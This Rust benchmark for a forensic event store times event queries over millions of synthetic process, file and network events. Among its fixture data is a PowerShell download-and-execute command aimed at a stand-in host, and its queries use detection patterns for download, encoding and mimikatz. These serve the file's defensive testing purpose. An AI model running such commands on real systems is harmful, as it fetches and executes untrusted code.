//! The event query across investigations (`GET /api/v1/events`) on SQLite: selective
//! queries (one IP, one file name with a command-line wildcard) and a broad one, first
//! page, over many investigations (median of repeated runs).
//!
//! `cargo bench -p riposte-store --bench event_query` — `RIPOSTE_BENCH_EVENTS` (default
//! 5,000,000) events over `RIPOSTE_BENCH_INVESTIGATIONS` (default 500) investigations;
//! `RIPOSTE_BENCH_DIR` keeps the database between runs. With `RIPOSTE_BENCH_POSTGRES_URL`
//! (a database of its own: it is filled once and then reused) the same runs on Postgres.

use chrono::{TimeZone, Utc};
use riposte_model::{
    Action, Event, EventOrigin, EventQuery, Investigation, InvestigationId, InvestigationStatus,
    Target,
};
use riposte_store::{EventSearch, Store};
use std::time::{Duration, Instant};

/// A deterministic synthetic event: processes, files and connections, one per second;
/// every 250,000th is a connection to 203.0.113.77, every 333,333rd a PowerShell download.
fn event(i: u64, host: &str) -> Event {
    let time = Some(Utc.timestamp_opt(1_700_000_000 + i as i64, 0).unwrap());
    let origin = EventOrigin {
        parser: "bench".into(),
        path: "/bench".into(),
        record: Some(i),
    };
    match i % 3 {
        0 => {
            let ip = if i % 250_000 == 3 {
                "203.0.113.77".to_string()
            } else {
                format!("10.{}.{}.{}", (i >> 16) % 256, (i >> 8) % 256, i % 256)
            };
            Event::new(
                time,
                host,
                Action::NetworkOutgoing,
                format!("connection to {ip}"),
                origin,
            )
            .with("remote_ip", ip)
            .with("remote_port", "443")
        }
        1 => {
            let (name, cmd) = if i % 333_333 == 1 {
                (
                    "powershell.exe",
                    "powershell -c IEX (iwr http://x/a).DownloadString".to_string(),
                )
            } else {
                (
                    "svchost.exe",
                    format!("svchost.exe -k netsvcs -p -s task{}", i % 97),
                )
            };
            Event::new(
                time,
                host,
                Action::ProcessRun,
                format!("process {cmd}"),
                origin,
            )
            .with("file_name", name)
            .with("cmd", cmd)
        }
        _ => Event::new(
            time,
            host,
            Action::FileWrite,
            format!("write /tmp/f{}", i % 1000),
            origin,
        )
        .with("file_path", format!("/tmp/f{}", i % 1000)),
    }
}

fn median(mut runs: Vec<Duration>) -> Duration {
    runs.sort();
    runs[runs.len() / 2]
}

fn var(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

#[tokio::main]
async fn main() {
    let total = var("RIPOSTE_BENCH_EVENTS", 5_000_000);
    let investigations = var("RIPOSTE_BENCH_INVESTIGATIONS", 500).max(1);
    let keep = std::env::var_os("RIPOSTE_BENCH_DIR").map(std::path::PathBuf::from);
    let scratch = tempfile::tempdir().unwrap();
    let dir = keep.unwrap_or_else(|| scratch.path().to_path_buf());
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join(format!("event-query-{total}-{investigations}.db"));
    let (store, existed) = match std::env::var("RIPOSTE_BENCH_POSTGRES_URL") {
        Ok(url) => {
            let store = Store::connect(&url).await.unwrap();
            let stored: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM investigations")
                .fetch_one(store.pool())
                .await
                .unwrap();
            println!("Postgres: {stored} investigations already stored");
            (store, stored > 0)
        }
        Err(_) => {
            let existed = db.exists();
            (Store::open_sqlite(&db).await.unwrap(), existed)
        }
    };
    if !existed {
        let started = Instant::now();
        let per = total / investigations;
        for n in 0..investigations {
            let host = format!("host{n:03}");
            let inv = Investigation {
                id: InvestigationId::new(),
                title: "bench".into(),
                status: InvestigationStatus::Complete,
                target: Target::default(),
                host: host.clone(),
                alert_ids: Vec::new(),
                verdict: None,
                error: None,
                project_id: None,
                plan: None,
                acquisition: None,
                created_at: Utc::now(),
                updated_at: Utc::now(),
            };
            let events: Vec<Event> = (n * per..(n + 1) * per).map(|i| event(i, &host)).collect();
            let mut tx = store.begin().await.unwrap();
            Store::create_investigation(&mut tx, &inv).await.unwrap();
            Store::insert_events(&mut tx, inv.id, 0, &events)
                .await
                .unwrap();
            tx.commit().await.unwrap();
        }
        let took = started.elapsed();
        println!(
            "inserted {total} events over {investigations} investigations in {:.1} s",
            took.as_secs_f64()
        );
    }
    if store.backend() == riposte_store::Backend::Sqlite {
        let size = std::fs::metadata(&db).map(|m| m.len()).unwrap_or(0);
        println!("database {} ({} MiB)", db.display(), size >> 20);
    }
    let cases = [
        (
            "network, one IP (selective)",
            "network",
            Some("outgoing_network,incoming_network,failed_network"),
            Some("remote_ip:203.0.113.77"),
        ),
        (
            "process, file name + cmd wildcards (selective)",
            "process",
            Some("run"),
            Some("file_name:powershell.exe,cmd:*download*|*encoded*"),
        ),
        ("network, every event (broad)", "network", None, None),
        (
            "process, a wildcard matching nothing",
            "process",
            Some("run"),
            Some("cmd:*mimikatz*"),
        ),
    ];
    for (name, entity, action, attr) in cases {
        let query = EventQuery::parse(entity, action, attr).unwrap();
        let search = EventSearch::default();
        let mut runs = Vec::new();
        let mut found = 0;
        let mut examined = 0;
        for _ in 0..5 {
            let started = Instant::now();
            let hits = store.query_events(&query, &search).await.unwrap();
            runs.push(started.elapsed());
            found = hits.events.len();
            examined = hits.examined;
        }
        println!(
            "{name}: first page {:.1} ms (median of 5), {found} events, {examined} rows examined",
            median(runs).as_secs_f64() * 1000.0
        );
    }
}
